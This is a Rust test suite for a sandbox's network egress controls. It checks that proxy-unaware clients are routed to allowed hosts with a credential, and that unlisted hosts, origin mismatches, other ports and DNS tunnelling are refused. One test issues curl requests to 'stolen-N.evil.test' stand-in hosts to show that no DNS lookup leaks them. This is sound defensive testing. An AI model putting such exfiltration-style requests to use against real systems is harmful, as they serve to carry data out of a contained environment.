//! Programs that know no proxy: they look a name up, connect to it, and meet the same rules as everybody else.

use std::fs;
use std::path::Path;

use bottle_test_support::bottle::Bottle;
use bottle_test_support::tools::tool;
use bottle_test_support::warden::Ending;
use serde_json::Value;

use crate::net::tools::REQUESTS;
use crate::net::world::{NAME, TOKEN, World, users};

const DIRECT: &str = include_str!("direct.py");
/// In a shell: nothing says that there is a proxy.
const NO_PROXY: &str = "unset HTTP_PROXY HTTPS_PROXY ALL_PROXY NO_PROXY http_proxy https_proxy all_proxy no_proxy NODE_USE_ENV_PROXY\n";

/// A bottle with three routes, two of them with a credential, and the probe in its working directory.
fn world(user: Option<u32>) -> World {
    let auth = format!(", auth: {{ token_ref: {TOKEN} }}");
    World::new(user).route("echo.test", &auth).route("other.test", "").plain_route("plain.test", &auth).file("direct.py", DIRECT)
}

fn probed(world: &World, what: &str) -> Vec<String> {
    world.said(&format!("{NO_PROXY}/usr/bin/python3 direct.py {what}")).lines().map(str::to_owned).collect()
}

/// Runs one probe as every user, and compares all of it; nothing may have arrived at the far end.
#[track_caller]
fn expect(what: &str, expected: &[&str]) {
    for user in users() {
        let world = world(user).ready("provider: shell");
        assert_eq!(probed(&world, what), expected, "as {user:?}");
        assert_eq!(world.since(0), [], "nothing was asked of the far end");
    }
}

/// The events of the sidecar that faces the agent.
fn events(world: &World) -> Vec<Value> {
    let path = world.bottle.path().join("state/bottle").join(NAME).join("logs/egress.jsonl");
    let log = fs::read_to_string(path).expect("egress has a log");
    log.lines().map(|line| serde_json::from_str(line).expect("each line is JSON")).collect()
}

/// What was refused: origin and reason of each event.
fn refused(world: &World) -> Vec<(String, String)> {
    let text = |event: &Value, key: &str| event[key].as_str().unwrap_or_default().to_owned();
    let events = events(world);
    events.iter().filter(|event| event["event"] == "refused").map(|event| (text(event, "origin"), text(event, "reason"))).collect()
}

/// Method, path and credential of what arrived.
fn heard(world: &World) -> Vec<String> {
    let token = format!("Bearer {}", world.token.value());
    let path = |target: &str| target.trim_start_matches("https://echo.test").to_owned();
    let credential = |value: Option<&str>| if value == Some(&token) { "with the token" } else { "without it" };
    world.since(0).iter().map(|r| format!("{} {} {}", r.method, path(&r.target), credential(r.header("authorization")))).collect()
}

// covers: V14
#[test]
fn clients_that_know_no_proxy_work_without_a_setting() {
    let Some(requests) = REQUESTS.installed() else { return };
    for program in ["curl", "wget", "node"] {
        if tool(program).is_none() {
            return;
        }
    }
    for user in users() {
        let world = world(user)
            .tree("python", &requests)
            .setting("env: { PYTHONPATH: /workspace/python, PYTHONDONTWRITEBYTECODE: \"1\" }")
            .ready("provider: shell");
        let said = world.said(&format!(
            "{NO_PROXY}
             for v in --http1.1 --http2; do curl -sS $v -o /dev/null -w '%{{http_code}} %{{http_version}}\\n' https://echo.test/curl; done
             curl -sS -6 -o /dev/null -w '%{{http_code}}\\n' https://echo.test/curl6
             curl -sS --noproxy '*' -x http://unused.test:1 -o /dev/null -w '%{{http_code}}\\n' https://echo.test/noproxy
             wget -q --ca-certificate=$SSL_CERT_FILE -O /dev/null https://echo.test/wget && echo wget
             /usr/bin/python3 -c \"import urllib.request as u; print(u.urlopen('https://echo.test/urllib').status)\"
             /usr/bin/python3 -c \"import http.client as c, ssl; h = c.HTTPSConnection('echo.test', context=ssl.create_default_context());\
                                  h.request('GET', '/http.client'); print(h.getresponse().status)\"
             /usr/bin/python3 -c \"import requests as r; s = r.Session(); s.trust_env = False; s.verify = '$SSL_CERT_FILE';\
                                  print(s.get('https://echo.test/requests').status_code)\"
             node -e \"fetch('https://echo.test/fetch').then(r => console.log(r.status))\"
             node -e \"require('https').get('https://echo.test/https', r => console.log(r.statusCode))\""
        ));
        assert_eq!(said, "200 1.1\n200 2\n200\n200\nwget\n200\n200\n200\n200\n200\n", "as {user:?}");
        let paths = ["/curl", "/curl", "/curl6", "/noproxy", "/wget", "/urllib", "/http.client", "/requests", "/fetch", "/https"];
        assert_eq!(heard(&world), paths.map(|path| format!("GET {path} with the token")), "as {user:?}");
    }
}

// covers: V14
#[test]
fn java_finds_its_way_without_a_proxy() {
    let (Some(java), Some(_)) = (tool("java"), tool("keytool")) else { return };
    let home = fs::canonicalize(java).expect("java is a file");
    let home = home.ancestors().nth(2).expect("a JDK has a bin").display().to_string();
    let program = "import java.net.*; import java.net.http.*;
        class T { public static void main(String[] a) throws Exception {
            var old = (HttpURLConnection) new URL(\"https://echo.test/url\").openConnection();
            System.out.println(old.getResponseCode());
            var request = HttpRequest.newBuilder(URI.create(\"https://echo.test/client\")).build();
            System.out.println(HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.discarding()).statusCode());
        } }";
    for user in users() {
        let world = world(user).file("T.java", program).ready("provider: shell");
        let said = world.said(&format!(
            "{NO_PROXY}
             {home}/bin/keytool -importcert -noprompt -storetype PKCS12 -storepass changeit -alias b -file $SSL_CERT_FILE -keystore /tmp/ca 2>/dev/null
             {home}/bin/java -Djavax.net.ssl.trustStore=/tmp/ca -Djavax.net.ssl.trustStorePassword=changeit T.java"
        ));
        assert_eq!(said, "200\n200\n", "as {user:?}");
        assert_eq!(heard(&world), ["/url", "/client"].map(|path| format!("GET {path} with the token")), "as {user:?}");
    }
}

#[test]
fn git_clones_without_a_proxy() {
    if tool("git").is_none() {
        return;
    }
    for user in users() {
        let world = World::new(user).route("git.test", "").ready("provider: shell");
        let said = world.said(&format!(
            "{NO_PROXY}cd /tmp && git clone --quiet https://git.test/sample.git here && git -C here log --format=%s
             git -C here -c user.name=t -c user.email=t@t commit -q --allow-empty -m Third
             git -C here push -q https://git.test/writable/sample.git main 2>&1 | grep -o 403"
        ));
        assert_eq!(said, "Second\nFirst\n403\n", "as {user:?}");
    }
}

#[test]
fn a_refused_name_answers_with_its_reason_and_is_one_event_for_each_request() {
    for user in users() {
        let world = world(user).ready("provider: shell");
        let said = world.said(&format!(
            "{NO_PROXY}
             for v in --http1.1 --http2; do curl -sS $v -w '%{{http_code}} %{{http_version}}\\n' -o /tmp/$v https://unlisted.test/secret/path; done
             cmp /tmp/--http1.1 /tmp/--http2 >/dev/null; grep -o 'host_not_listed\\|no route names unlisted.test' /tmp/--http1.1 | sort -u
             curl -sS -o /dev/null -w '%{{http_code}} %header{{x-bottle-reason}}\\n' http://unlisted.test/
             node -e \"fetch('https://unlisted.test/').then(r => console.log(r.status, r.headers.get('x-bottle-reason')))\""
        ));
        let expected = "403 1.1\n403 2\nhost_not_listed\nno route names unlisted.test\n403 host_not_listed\n403 host_not_listed\n";
        assert_eq!(said, expected, "as {user:?}");
        let reason = |origin: &str| (origin.to_owned(), "host_not_listed".to_owned());
        let origins = ["https://unlisted.test", "https://unlisted.test", "http://unlisted.test", "https://unlisted.test"];
        assert_eq!(refused(&world), origins.map(reason), "as {user:?}");
        assert_eq!(world.origin.connections(), []);
    }
}

/// The same without routes, where pipelock itself faces the agent.
#[test]
fn in_a_closed_bottle_every_name_answers_with_its_reason() {
    for user in users() {
        let world = World::new(user).ready("provider: shell");
        let said = world.said(&format!(
            "{NO_PROXY}curl -sS -o /dev/null -w '%{{http_code}} %header{{x-bottle-reason}}\\n' https://echo.test/
             curl -sS -o /dev/null -w '%{{http_code}} %header{{x-bottle-reason}}\\n' http://echo.test/"
        ));
        assert_eq!(said, "403 host_not_listed\n403 host_not_listed\n", "as {user:?}");
        assert_eq!(world.origin.connections(), []);
    }
}

// covers: H01 N09
#[test]
fn an_address_a_server_name_and_a_host_must_all_mean_the_same() {
    for user in users() {
        let world = world(user).ready("provider: shell");
        let mismatch = "421 origin_mismatch as echo.test";
        assert_eq!(
            probed(&world, "confusion"),
            [
                "all agree 200 as echo.test",
                "over IPv6 200 as echo.test",
                "on port 80 200 as echo.test",
                "no server name 200 as echo.test",
                "no server name, another host 421 origin_mismatch as echo.test",
                "another server name 421 origin_mismatch as other.test",
                "another host 421 origin_mismatch as echo.test",
                "another port 421 origin_mismatch as echo.test",
                "an address for a server name 200 as echo.test",
                "a refused name 403 host_not_listed as unlisted.test",
                "a refused name for an allowed one 421 origin_mismatch as echo.test",
                &format!("an address without a name {mismatch}"),
                &format!("an address of the interface {mismatch}"),
                "plain 200",
                "plain, another host 421 origin_mismatch",
                "plain, a refused name 403 host_not_listed",
                "plain, no name 421 origin_mismatch",
                "no TLS 403 opaque_tunnel",
                "a proxy's request 403 opaque_tunnel",
                "a proxy's request on port 80 400 malformed_request",
            ],
            "as {user:?}"
        );
        // Only where all agree, and over plain HTTP without the credential. Clients send no address as a server name (RFC 6066, section 3).
        let said: Vec<String> = heard(&world).iter().map(|line| line.replace("http://plain.test", "")).collect();
        let with_token = ["/echo.test", "/echo.test", "/echo.test:80", "/echo.test", "/echo.test"];
        let mut expected = with_token.map(|path| format!("GET {path} with the token")).to_vec();
        expected.push("GET /plain.test without it".into());
        assert_eq!(said, expected, "as {user:?}");
    }
}

// covers: N01
#[test]
fn other_ports_are_refused_at_once_and_well_known_ones_are_recorded() {
    for user in users() {
        let world = world(user).ready("provider: shell");
        let ports = [22, 25, 1433, 3306, 5432, 5672, 6379, 9418, 11211, 27017, 23, 8080, 8443, 9092];
        let mut expected: Vec<String> = ports.iter().map(|port| format!("{port} ECONNREFUSED")).collect();
        expected.push("22 over IPv6 ECONNREFUSED".into());
        expected.extend(["127.0.0.1", "127.8.9.10", "localhost", NAME].map(|host| format!("{host} ECONNRESET ECONNRESET")));
        expected.extend(["QUIC ECONNREFUSED", "QUIC ECONNREFUSED"].map(str::to_owned));
        let said: Vec<String> = probed(&world, "ports").iter().map(|line| line.replace("[ID]", NAME)).collect();
        assert_eq!(said, expected, "as {user:?}");
        let mut recorded: Vec<_> = ports[..10].iter().map(|port| (format!("tcp://db.test:{port}"), "opaque_tunnel".to_owned())).collect();
        recorded.push(("tcp://six.test:22".to_owned(), "opaque_tunnel".to_owned()));
        assert_eq!(refused(&world), recorded, "as {user:?}");
    }
}

#[test]
fn a_server_of_the_agents_own_has_every_port_that_programs_expect_it_on() {
    expect("servers", &["done"]);
}

// covers: N03
#[test]
fn every_name_is_local_but_those_of_the_bottle() {
    for user in users() {
        let world = world(user).ready("provider: shell");
        let said: Vec<String> = probed(&world, "resolver").iter().map(|line| line.replace("[ID]", NAME)).collect();
        let mut expected = Vec::new();
        for name in ["echo.test", "example.test", "no.such.name.test", "intranet"] {
            expected.extend(["v4", "v6"].map(|version| format!("{name} {version} local")));
        }
        for (name, v4, v6) in [
            ("localhost", "127.0.0.1", "::1"),
            ("a.localhost", "127.0.0.1", "::1"),
            (NAME, "127.0.0.1", "::1"),
            ("egress", "127.0.0.1", "none"),
            ("git-gate", "none", "none"),
            ("a.invalid", "none", "none"),
            ("xn--grn-ioa.test", "local", "local"),
            ("bad..name", "none", "none"),
            ("-a.test", "none", "none"),
        ] {
            expected.extend([format!("{name} v4 {v4}"), format!("{name} v6 {v6}")]);
        }
        expected.extend(["configured AF_INET AF_INET6".to_owned(), "the same again True".to_owned()]);
        assert_eq!(said, expected, "as {user:?}");
    }
}

// covers: N03
#[test]
fn a_question_carries_nothing_out_and_an_answer_nothing_in() {
    expect(
        "tunnel",
        &[
            "(False, 0, 0) (True, 0, 1)",
            "8.8.8.8 53 ENETUNREACH",
            "1.1.1.1 853 ENETUNREACH",
            "224.0.0.251 5353 ENETUNREACH",
            "224.0.0.252 5355 ENETUNREACH",
            "127.0.0.1 53 ECONNREFUSED",
        ],
    );
}

#[test]
fn whoever_exhausts_the_names_takes_none_that_is_in_use() {
    for user in users() {
        let world = world(user).ready("provider: shell");
        let said = probed(&world, "exhaustion");
        assert_eq!(said.len(), 2, "{said:?}");
        // All but the one that was there before.
        assert_eq!(said[0], "{0: 16383, 2: 617} True 200 as echo.test", "as {user:?}");
        assert!(said[1].starts_with("new name Temporary failure"), "{said:?}");
        assert_eq!(refused(&world), [(String::new(), "too_many".to_owned())], "as {user:?}");
    }
}

#[test]
fn connections_that_say_nothing_keep_nobody_waiting() {
    for user in users() {
        let world = world(user).ready("provider: shell");
        assert_eq!(probed(&world, "slow"), ["200 as echo.test"], "as {user:?}");
    }
}

/// A network of its own with a name server that writes down what it is asked, as the host of a bottle.
const COUNTING_HOST: &str = r#"
ip link set lo up && mount --bind "$1/resolv.conf" /etc/resolv.conf || exit 99
/usr/bin/python3 "$1/stub.py" "$1/asked" & stub=$!
while ! [ -e "$1/asked" ]; do :; done
shift; "$@"; code=$?; kill $stub; exit $code
"#;

const STUB: &str = r#"
import socket, sys
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.bind(("127.0.0.1", 53))
asked = open(sys.argv[1], "w", buffering=1)
while True:
    data, client = udp.recvfrom(4096)
    labels, at = [], 12
    while data[at]:
        labels.append(data[at + 1:at + 1 + data[at]].decode())
        at += 1 + data[at]
    asked.write(".".join(labels) + "\n")
    udp.sendto(data[:2] + b"\x81\x83" + data[4:6] + bytes(6) + data[12:at + 5], client)
"#;

// covers: N03
#[test]
fn the_hosts_name_server_hears_of_an_allowed_name_and_of_no_other() {
    let Some(unshare) = tool("unshare") else { return };
    let bottle = Bottle::new(unshare).bottle(NAME, "egress:\n  routes: [{ host: known.test }]\n");
    let bottle = bottle.agent(NAME, &format!("bottle: {NAME}\nprovider: shell"), "");
    let place = bottle.path().join("work");
    let asked = place.join("asked");
    fs::write(place.join("resolv.conf"), "nameserver 127.0.0.1\noptions attempts:1\n").unwrap();
    fs::write(place.join("stub.py"), STUB).unwrap();
    let script = format!(
        "{NO_PROXY}for n in 1 2 3; do curl -s -o /dev/null -w '%{{http_code}} ' https://stolen-$n.evil.test/; done
         curl -s -o /dev/null -w '%{{http_code}} ' http://stolen.known.test/
         curl -s -o /dev/null -w '%{{http_code}} %header{{x-bottle-reason}}' https://known.test/"
    );
    let in_network =
        ["--user", "--map-user=1000", "--map-group=1000", "--keep-caps", "--mount", "--net", "/bin/sh", "-c", COUNTING_HOST, "sh"]
            .map(str::to_owned);
    let program = env!("CARGO_BIN_EXE_bottle");
    let start = [place.to_str().unwrap(), program, "start", NAME, "--yes", "--headless", "--", "/bin/sh", "-c", &script].map(str::to_owned);
    let ended = bottle.run([&in_network[..], &start].concat());
    assert_eq!((ended.ending, &*ended.stdout), (Ending::Code(0), "403 403 403 403 502 name_not_resolved"), "{}", ended.stderr);
    let mut names: Vec<String> = read_lines(&asked);
    names.sort();
    names.dedup();
    assert_eq!(names, ["known.test"]);
}

fn read_lines(path: &Path) -> Vec<String> {
    fs::read_to_string(path).expect("the stub has written").lines().map(|line| line.trim_end_matches('.').to_ascii_lowercase()).collect()
}
